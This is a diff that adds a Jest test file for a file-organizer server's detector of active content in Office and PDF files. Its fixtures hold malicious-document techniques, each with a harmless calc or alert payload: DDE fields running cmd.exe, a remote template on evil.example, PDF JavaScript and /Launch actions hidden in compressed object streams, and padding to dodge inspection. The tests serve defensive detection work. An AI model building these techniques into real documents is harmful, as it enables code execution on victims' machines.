@@ -0,0 +1,279 @@
+/**
+ * File Organizer MCP Server - Active Content Tests
+ * Tests detection of macros, external templates and DDE in OOXML files,
+ * macro storages in OLE compound files and actions in PDFs
+ */
+
+import fs from "fs/promises";
+import path from "path";
+import zlib from "zlib";
+import { describe, it, expect, beforeEach, afterEach } from "@jest/globals";
+import { ActiveContentService } from "../../../src/services/active-content.service.js";
+import { ContentScreeningService } from "../../../src/services/content-screening.service.js";
+import { buildZip } from "../../utils/archive-fixtures.js";
+
+const CONTENT_TYPES = {
+  name: "[Content_Types].xml",
+  content: '<?xml version="1.0"?><Types/>',
+};
+const REL =
+  "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+/**
+ * A minimal OLE compound file with one FAT sector and one directory sector
+ */
+function buildCompoundFile(names: Array<[string, number]>): Buffer {
+  const sectorSize = 512;
+  const header = Buffer.alloc(sectorSize);
+  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
+  header.writeUInt16LE(0x3e, 0x18);
+  header.writeUInt16LE(3, 0x1a);
+  header.writeUInt16LE(0xfffe, 0x1c);
+  header.writeUInt16LE(9, 0x1e);
+  header.writeUInt16LE(6, 0x20);
+  header.writeUInt32LE(1, 0x2c);
+  header.writeUInt32LE(1, 0x30);
+  header.writeUInt32LE(0xfffffffe, 0x3c);
+  header.writeUInt32LE(0xfffffffe, 0x44);
+  for (let i = 0; i < 109; i++) {
+    header.writeUInt32LE(i === 0 ? 0 : 0xffffffff, 0x4c + i * 4);
+  }
+
+  const fat = Buffer.alloc(sectorSize, 0xff);
+  fat.writeUInt32LE(0xfffffffd, 0);
+  fat.writeUInt32LE(0xfffffffe, 4);
+
+  const directory = Buffer.alloc(sectorSize);
+  names.slice(0, 4).forEach(([name, type], i) => {
+    const entry = i * 128;
+    const encoded = Buffer.from(`${name}\0`, "utf16le");
+    encoded.copy(directory, entry);
+    directory.writeUInt16LE(encoded.length, entry + 0x40);
+    directory[entry + 0x42] = type;
+  });
+
+  return Buffer.concat([header, fat, directory]);
+}
+
+describe("ActiveContentService", () => {
+  let testDir: string;
+  const service = new ActiveContentService();
+
+  beforeEach(async () => {
+    const baseTempDir = path.join(process.cwd(), "tests", "temp");
+    await fs.mkdir(baseTempDir, { recursive: true });
+    testDir = await fs.mkdtemp(path.join(baseTempDir, "active-content-"));
+  });
+
+  afterEach(async () => {
+    await fs.rm(testDir, { recursive: true, force: true });
+  });
+
+  const detect = async (name: string, content: Buffer) => {
+    const filePath = path.join(testDir, name);
+    await fs.writeFile(filePath, content);
+    return service.detect(filePath, content.subarray(0, 4096));
+  };
+
+  it("finds macros, remote templates and DDE fields in OOXML files", async () => {
+    const docm = buildZip([
+      CONTENT_TYPES,
+      { name: "word/document.xml", content: "<w:document/>" },
+      { name: "word/vbaProject.bin", content: "macro" },
+    ]);
+    expect(await detect("report.docm", docm)).toEqual([
+      {
+        format: "ooxml",
+        indicator: "vba_macro",
+        severity: "error",
+        message: "Document contains VBA macros",
+        evidence: ["word/vbaProject.bin"],
+        locations: ["word/vbaProject.bin"],
+      },
+    ]);
+
+    const docx = buildZip([
+      CONTENT_TYPES,
+      {
+        name: "word/_rels/settings.xml.rels",
+        content: `<Relationships><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/></Relationships>`,
+      },
+      {
+        name: "word/_rels/document.xml.rels",
+        content: `<Relationships><Relationship Id="rId2" Type="${REL}/hyperlink" Target="https://example.com" TargetMode="External"/><Relationship Id="rId3" Type="${REL}/image" Target="http://cdn.example/logo.png" TargetMode="External"/><Relationship Id="rId4" Type="${REL}/styles" Target="styles.xml"/></Relationships>`,
+      },
+      {
+        name: "word/document.xml",
+        content:
+          '<w:document><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:document>',
+      },
+    ]);
+    const indicators = await detect("invoice.docx", docx);
+
+    expect(indicators.map((i) => [i.indicator, i.severity])).toEqual([
+      ["external_template", "error"],
+      ["dde", "error"],
+      ["external_relationship", "warning"],
+    ]);
+    expect(indicators[0]!.evidence).toEqual([
+      "attachedTemplate: https://evil.example/t.dotm?a=1&b=2",
+    ]);
+    expect(indicators[0]!.locations).toEqual(["word/_rels/settings.xml.rels"]);
+    expect(indicators[1]!.evidence).toEqual([
+      'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
+    ]);
+    expect(indicators[2]!.evidence).toEqual([
+      "image: http://cdn.example/logo.png",
+    ]);
+  });
+
+  it("finds DDE links and macro sheets in workbooks", async () => {
+    const xlsx = buildZip([
+      CONTENT_TYPES,
+      { name: "xl/macrosheets/sheet1.xml", content: "<xm:macrosheet/>" },
+      {
+        name: "xl/externalLinks/externalLink1.xml",
+        content:
+          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+      },
+    ]);
+
+    const indicators = await detect("budget.xlsx", xlsx);
+    expect(indicators.map((i) => [i.indicator, i.evidence])).toEqual([
+      ["xlm_macro", ["xl/macrosheets/sheet1.xml"]],
+      ["dde", ["cmd|/c calc"]],
+    ]);
+  });
+
+  it("ignores ZIP archives that are not Office documents", async () => {
+    const zip = buildZip([{ name: "vbaProject.bin", content: "x" }]);
+    expect(await detect("backup.zip", zip)).toEqual([]);
+  });
+
+  it("finds macro storages and packages in OLE compound files", async () => {
+    const doc = buildCompoundFile([
+      ["Root Entry", 5],
+      ["Macros", 1],
+      ["VBA", 1],
+      ["\x01Ole10Native", 2],
+    ]);
+
+    expect(await detect("letter.doc", doc)).toEqual([
+      {
+        format: "ole",
+        indicator: "vba_macro",
+        severity: "error",
+        message: "Document contains VBA macros",
+        evidence: ["Macros", "VBA"],
+        locations: ["Macros", "VBA"],
+      },
+      expect.objectContaining({
+        indicator: "ole_package",
+        severity: "warning",
+      }),
+    ]);
+
+    const clean = buildCompoundFile([
+      ["Root Entry", 5],
+      ["WordDocument", 2],
+    ]);
+    expect(await detect("clean.doc", clean)).toEqual([]);
+  });
+
+  it("finds actions in PDFs, including escaped names and object streams", async () => {
+    const plain = Buffer.from(
+      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>\nendobj\n2 0 obj\n<< /S /J#61vaScript /JS (app.alert(1)) >>\nendobj\n%%EOF\n",
+    );
+    const indicators = await detect("invoice.pdf", plain);
+    expect(
+      indicators.map((i) => [i.indicator, i.severity, i.evidence]),
+    ).toEqual([
+      ["javascript", "error", ["/JavaScript", "/JS"]],
+      ["open_action", "warning", ["/OpenAction"]],
+      ["embedded_file", "warning", ["/EmbeddedFiles"]],
+    ]);
+    expect(indicators[0]!.locations).toEqual(["document"]);
+
+    const objects = zlib.deflateSync(
+      Buffer.from("4 0 << /Type /Action /S /Launch /F (cmd.exe) >>"),
+    );
+    const hidden = Buffer.concat([
+      Buffer.from(
+        `%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`,
+      ),
+      objects,
+      Buffer.from("\nendstream\nendobj\n%%EOF\n"),
+    ]);
+    expect(await detect("hidden.pdf", hidden)).toEqual([
+      {
+        format: "pdf",
+        indicator: "launch",
+        severity: "error",
+        message: "PDF can launch other programs",
+        evidence: ["/Launch"],
+        locations: ["object stream"],
+      },
+    ]);
+
+    expect(
+      await detect("clean.pdf", Buffer.from("%PDF-1.4\n<< /Type /Page >>\n")),
+    ).toEqual([]);
+  });
+
+  it("reports PDF object streams too large to inspect", async () => {
+    const padded = zlib.deflateSync(
+      Buffer.concat([
+        Buffer.alloc(9 * 1024 * 1024, 0x20),
+        Buffer.from("4 0 << /S /JavaScript /JS (app.alert(1)) >>"),
+      ]),
+    );
+    const pdf = Buffer.concat([
+      Buffer.from(
+        `%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${padded.length} >>\nstream\n`,
+      ),
+      padded,
+      Buffer.from("\nendstream\nendobj\n%%EOF\n"),
+    ]);
+
+    expect(await detect("padded.pdf", pdf)).toEqual([
+      {
+        format: "pdf",
+        indicator: "oversized_object_stream",
+        severity: "warning",
+        message: "PDF object stream is too large to inspect",
+        evidence: ["/ObjStm"],
+        locations: [`object stream at byte ${pdf.indexOf("stream\n")}`],
+      },
+    ]);
+  });
+
+  it("raises the threat level when screening", async () => {
+    const docm = path.join(testDir, "report.docx");
+    await fs.writeFile(
+      docm,
+      buildZip([CONTENT_TYPES, { name: "word/vbaProject.bin", content: "x" }]),
+    );
+    const pdf = path.join(testDir, "form.pdf");
+    await fs.writeFile(pdf, "%PDF-1.7\n<< /OpenAction 2 0 R >>\n");
+
+    const [macro, openAction] = await new ContentScreeningService().screenBatch(
+      [docm, pdf],
+    );
+
+    expect(macro!.threatLevel).toBe("high");
+    expect(macro!.passed).toBe(false);
+    expect(macro!.issues).toContainEqual({
+      type: "active_content",
+      severity: "error",
+      message: "Document contains VBA macros (word/vbaProject.bin)",
+      details: {
+        format: "ooxml",
+        indicator: "vba_macro",
+        evidence: ["word/vbaProject.bin"],
+        locations: ["word/vbaProject.bin"],
+      },
+    });
+    expect(openAction!.threatLevel).toBe("medium");
+    expect(openAction!.issues.map((i) => i.type)).toEqual(["active_content"]);
+  });
+});